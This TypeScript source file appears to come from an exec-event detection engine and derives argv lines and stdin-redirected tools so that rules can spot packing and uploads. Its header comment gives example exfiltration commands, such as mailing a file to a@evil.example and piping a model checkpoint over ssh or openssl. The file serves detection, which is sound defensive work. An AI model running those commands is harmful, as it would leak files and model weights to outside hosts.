/**
 * Two readings of an exec's commands (exec-canonical.ts) that rules opt into by field name
 * (event-fields.ts), because `attrs.exec.command` does not give them:
 *
 * - `argvLines` (`attrs.exec.argvLine`): each command that runs from argv itself, not from a
 *   script, as one line of its words. `kubectl exec pod -- tar czf /tmp/m.tgz /mnt/ckpt` is the
 *   argv `tar`, `czf`, …: a rule written for `tar c` over a script's command lines never saw it,
 *   though `sh -c 'tar czf …'` is the same act. `attrs.exec.command` makes no line of argv on
 *   purpose (exec-readings.ts: `kubectl cp` runs `tar cf - <path>` in the pod, which every rule
 *   over its lines would read as packing); a rule over this field says what it makes of that.
 * - `stdinFileTools` (`attrs.exec.stdinFromFile`): the tools a shell script feeds a file on
 *   standard input (`ssh h 'cat > m.pt' < /mnt/ckpt/model.pt`, `openssl s_client -connect h:443
 *   < f`, `mail -s x a@evil.example < f`, `0<f`, `<>f`): an upload whose file no argument names,
 *   which neither an upload option nor a pipe (`| ssh`) shows. Only scripts have redirections:
 *   a `<` in argv is a word the tool is given. `/dev/null`, `/dev/stdin` and descriptors are no
 *   file. The tool is the command's tool word past wrappers (`sudo`, `nohup`, `timeout 5`…) as a
 *   basename; the last redirection of standard input is the one the tool reads (the shell applies
 *   them in order).
 *
 * Both are bounded (MAX_LINES, the reading's own bounds before that) and never throw.
 */
import { baseName } from './exec-canonical.js';
import { lastRedirectionTarget } from './exec-decode-stage.js';
import { runIndex } from './exec-fetched-run.js';
import { joinWords } from './exec-readings.js';

/** Lines (or tools) one reading gives either field. */
export const MAX_LINES = 64;
/** Redirections of standard input from a file (`<&` duplicates a descriptor; here-docs are no file). */
const STDIN_FROM_FILE: ReadonlySet<string> = new Set(['<', '<>']);
/** Paths a redirection names that are no file's contents. */
const NOT_A_FILE: ReadonlySet<string> = new Set(['/dev/null', '/dev/stdin', '/dev/zero', '/dev/fd/0']);

/** The words of each argv command (not read from a script) with two or more words, joined by single spaces. */
export function argvLines(commands: readonly (readonly string[])[], scripted: readonly boolean[]): string[] {
  const out: string[] = [];
  for (let c = 0; c < commands.length && out.length < MAX_LINES; c++) {
    const words = commands[c]!;
    if (scripted[c] === true || words.length < 2) continue;
    out.push(joinWords(words));
  }
  return out;
}

/** The file standard input of a script's simple command is redirected from (the last such), or null. */
export function stdinFile(words: readonly string[]): string | null {
  return lastRedirectionTarget(words, 0, fromStdinFile);
}

function fromStdinFile(op: string, fd: string, to: string): boolean {
  return STDIN_FROM_FILE.has(op) && (fd === '' || fd === '0') && to !== '' && !NOT_A_FILE.has(to) && !/^&?\d+$/.test(to);
}

/** The tool a script's simple command runs: past reserved words, assignments, redirections and wrappers. */
function toolOf(cmd: readonly string[]): string | null {
  const { words, t } = runIndex(cmd);
  return t < words.length ? baseName(words[t]!) : null;
}

/** The tools of the scripts' commands that read a file on standard input, in order, each once. */
export function stdinFileTools(commands: readonly (readonly string[])[], scripted: readonly boolean[]): string[] {
  const out: string[] = [];
  for (let c = 0; c < commands.length && out.length < MAX_LINES; c++) {
    const words = commands[c]!;
    if (scripted[c] !== true || stdinFile(words) === null) continue;
    const tool = toolOf(words);
    if (tool !== null && tool !== '' && !out.includes(tool)) out.push(tool);
  }
  return out;
}
